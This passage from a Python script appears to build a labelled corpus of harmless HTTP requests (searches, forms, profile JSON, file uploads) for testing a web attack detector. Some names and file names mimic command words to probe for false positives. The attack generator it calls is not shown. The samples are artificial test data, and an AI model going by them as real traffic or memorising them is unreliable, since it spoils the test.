    ("Max Root", "1 Root Square, Riga LV-1050"),
    ("Tom Groups", "6 Group Road, Nairobi"),
    ("Ava Who", "99 Who Street, Wellington 6011"),
    ("Noah Sleep", "Sleepy Hollow Rd 3, Tarrytown NY"),
    ("Mia History", "15 Archive Row, Edinburgh EH1 1YZ"),
    ("Leo Type", "Typhoon Tower 20F, Taipei"),
    ("Isla Find", "4 Lost & Found Lane, Galway"),
    ("Omar Echo", "Echo Valley Farm, Hobart TAS 7000"),
    ("Lina Alias", "Alias Lane 2, 1011 Amsterdam"),
    ("Raj Shell", "Shell Colony, Bengaluru 560001"),
    ("Yuki Ping", "2-1 Ping Building, Osaka"),
    ("Finn Mount", "Mount Street 3, Hamilton 3204"),
    ("Sara Cat", "Katzenweg 5, 8001 Zurich"),
]

UPLOAD_NAMES = [
    "report.pdf", "avatar.png", "Q3 budget.xlsx", "notes.txt", "team-photo.jpg", "contract_v3.docx",
    "slides.pptx", "invoice-1182.pdf", "logo.svg", "resume.pdf", "cv_2024.docx", "headshot.jpeg",
    "data export.csv", "minutes 2024-10-01.md", "htaccess-guide.pdf", "web-config-notes.docx",
    "bash-cheatsheet.pdf", "powershell-tips.txt", "history-essay.docx", "cat.gif",
    "profile.webp", "receipt (1).pdf", "scan0001.tif", "archive.zip", "diagram.drawio",
    "IMG_20241012_1030.HEIC", "voice-note.m4a", "budget-final-FINAL.xlsx", "readme.txt", "map.kml",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]) for s in SEARCHES),
                            f"{NAME}-search", n, "form")
    n = yield from numbered((_json("/api/users", {"name": who, "address": addr, "email": "user@example.org"})
                             for who, addr in PROFILES), f"{NAME}-profile", n, "json")
    yield from numbered((_post("/admin/users/search", _multipart([("csrf_token", "t0k3n")], ("attachment", fn)),
                               f"multipart/form-data; boundary={BOUNDARY}") for fn in UPLOAD_NAMES),
                        f"{NAME}-upload", n, "multipart-filename")


if __name__ == "__main__":
    print_records(attacks(), benign())
